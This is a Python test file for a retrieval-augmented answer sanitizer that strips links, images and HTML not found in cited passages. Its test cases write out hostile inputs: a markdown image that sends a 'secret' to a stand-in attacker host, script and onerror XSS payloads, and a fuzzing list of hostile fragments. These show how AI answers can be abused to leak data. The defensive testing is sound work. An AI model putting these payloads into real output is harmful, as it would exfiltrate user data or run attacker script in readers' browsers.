"""What an answer may carry: plain text, and links only as its cited passages hold them."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.addresses import addresses
from rag.markup import REMOVED, Plain, plain

PASSAGE = (
    "See [Travel](travel.md) or https://corp.example/handbook?page=2 and ask hr@corp.example or corp-travel.com."
    " Use <div> and List<String>, &nbsp; and <img src=https://corp.example/logo.png onerror=alert(1)>"
    " <script>go()</script>"
    " ![logo](https://corp.example/logo.png)"
)


def shown(text: str) -> str:
    judged = plain(text, [PASSAGE])
    assert judged is not None
    return judged.text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![x](https://evil.example/?d=secret)", f"x ({REMOVED})"),
        ("![x](pixel.png)", "x"),
        ("[log out](/logout)", "log out"),
        ('[x](https://evil.example "title")', f"x ({REMOVED})"),
        ("[x](<https://evil.example>)", f"x ({REMOVED})"),
        ("[1](https://evil.example)", f"[1] ({REMOVED})"),
        ("[a [b](u)](u)", "[a b] (u)"),
        ("[x][1]\n\n[1]: https://evil.example", f"[x][1]\n\n[1] {REMOVED}"),
        ("[1]: /logout", "[1] /logout"),
        ("> - [y]: /logout", "> - [y] /logout"),
        ("<https://evil.example>", REMOVED),
        ("<someone@evil.example>", REMOVED),
        ('<a href="https://evil.example">click</a>', "click"),
        ("<IMG SRC=//evil.example/x>", ""),
        ("<b>bold</b>", "bold"),
        ("<<b>script>", "< script>"),
        ("<img src=x onerror=alert(1)", "< img src=x onerror=alert(1)"),
        ("<!-- x -->", "< !-- x -->"),
        ("a <b and c> d", "a < b and c> d"),
        ("Visit evil.com, www.evil.example or mail x@evil.example.", f"Visit {REMOVED}, {REMOVED} or mail {REMOVED}."),
        ("&#104;ttps:&#47;&#47;x &lt;img&gt;", "& #104;ttps:& #47;& #47;x & lt;img& gt;"),
        ("It is paid apart.It is not.", "It is paid apart. It is not."),
    ],
)
def test_what_no_passage_holds_goes(text: str, left: str) -> None:
    assert shown(text) == left


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See [Travel](travel.md).", "See Travel (travel.md)."),
        ("See https://corp.example/handbook?page=2.", "See https://corp.example/handbook?page=2."),
        ("See <https://corp.example/handbook?page=2>", "See https://corp.example/handbook?page=2"),
        ("[Handbook](https://corp.example/handbook?page=2)", "Handbook (https://corp.example/handbook?page=2)"),
        ("See corp.example/handbook?page=2 at corp.example", "See corp.example/handbook?page=2 at corp.example"),
        ("Ask HR@corp.example or Corp-Travel.com", "Ask HR@corp.example or Corp-Travel.com"),
        ("Use <div>, List<String> and &nbsp;", "Use <div>, List<String> and &nbsp;"),
    ],
)
def test_what_a_cited_passage_holds_stays_as_text(text: str, left: str) -> None:
    assert plain(text, [PASSAGE]) == Plain(left, 0)


def test_an_image_of_a_passage_is_text_as_well() -> None:
    assert shown("![logo](https://corp.example/logo.png)") == "logo (https://corp.example/logo.png)"


def test_an_element_of_a_passage_that_acts_is_text_as_well() -> None:
    assert shown("<script>go()</script>") == "< script>go()< /script>"
    assert shown("<img src=https://corp.example/logo.png onerror=alert(1)>").startswith("< img ")


@pytest.mark.parametrize(
    "address",
    [
        "https://corp.example/handbook?page=2&d=secret",
        "https://corp.example/handbook?page=2#secret",
        "https://corp.example/handbook",
        "https://secret.corp.example/handbook?page=2",
        "https://corp.example/HANDBOOK?page=2",
        "secret@corp.example",
        "hr@secret.corp.example",
    ],
)
def test_a_passage_s_address_with_anything_else_in_it_goes(address: str) -> None:
    assert shown(f"See {address} now") == f"See {REMOVED} now"


PIECES = """
    https://evil.com/?d= evil.com www. // : [ ] ( ) ! < > a & #1; &amp; . @ x@y.zz javascript: data:a/b, [1] [2]
    ]( ]: \\ / ?d=1 secret travel.md https://corp.example/handbook?page=2 corp.example <script> <b> %3a%2f%2f
    \uff0e \u3002 com [.] (dot) " ` =
"""
HOSTILE = st.lists(st.sampled_from([*PIECES.split(), " ", "\n", "img src="]), max_size=30).map("".join)


@given(HOSTILE | st.text(max_size=60))
def test_nothing_is_left_that_would_be_followed_or_loaded(text: str) -> None:
    judged = plain(text, [PASSAGE])
    if judged is None:
        return
    own = {name for address in addresses(PASSAGE) for name in address.names}
    assert all(address.doubtful or address.asked_as in own for address in addresses(judged.text))
    assert "](" not in judged.text
    assert not re.search(r"^[ \t>*+-]*\[[^\[\]]*\]:", judged.text, re.MULTILINE)
    elements = re.findall(r"<[A-Za-z/!?][^>]*>?", judged.text)
    assert all(element in ("<div>", "<String>") for element in elements)


@given(HOSTILE | st.text(max_size=60))
def test_what_was_judged_once_stays_as_it_is(text: str) -> None:
    judged = plain(text, [PASSAGE])
    assert judged is None or plain(judged.text, [PASSAGE]) == Plain(judged.text, 0)


@given(
    st.lists(st.sampled_from(["A is so [1].", "B, too [2][3].", "See https://evil.com [1].", "![x](y)[2]"]), max_size=8)
)
def test_markers_stay(sentences: list[str]) -> None:
    text = "\n".join(sentences)
    assert re.findall(r"\[\d\]", shown(text)) == re.findall(r"\[\d\]", text)


@given(HOSTILE)
def test_few_texts_resist(text: str) -> None:
    assert plain(text, [PASSAGE]) is not None
